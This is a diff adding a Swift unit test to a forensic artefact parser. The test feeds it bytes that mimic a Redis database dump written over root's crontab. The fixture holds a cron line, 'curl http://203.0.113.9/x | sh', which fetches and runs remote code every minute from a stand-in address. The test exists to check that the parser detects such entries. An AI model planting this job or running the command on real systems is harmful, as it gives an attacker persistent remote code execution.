@@ -99,4 +99,19 @@ import Testing
     #expect(dump.format == "linux.ld_conf" && dump.events.map { $0.text("path") } == ["/tmp/lib"])
     #expect(dump.events.map(\.dataType) == ["linux:loader:folder"])
   }
+
+  /// What Redis leaves where it was made to write its database among crontabs.
+  @Test func aJobAmongBytesOfAnotherKind() throws {
+    var bytes = Array("REDIS0009".utf8) + [0xFA, 9] + Array("redis-ver".utf8) + [5] + Array("5.0.7".utf8)
+    bytes +=
+      [0xFE, 0, 0, 1, 0x78, 0x40, 0x50] + Array("\n\n*/1 * * * * curl http://203.0.113.9/x | sh\n\n".utf8) + [
+        0xFF, 0, 1, 2,
+      ]
+    let dump = try EventDump(bytes, path: "var/spool/cron/root")
+    #expect(dump.format == "linux.crontab")
+    #expect(dump.events.map { $0.text("command") } == ["curl http://203.0.113.9/x | sh"])
+    #expect(dump.events.first?.text("user") == "root" && HostileInputTests.isWhole(dump, bytes.count))
+    #expect(EventDump.recognize([0xFE, 0, 0, 1, 0x0A, 0, 0xFF], path: "var/spool/cron/root")?.name != "linux.crontab")
+    #expect(EventDump.recognize(bytes, path: "var/lib/redis/dump.rdb") == nil)
+  }
 }
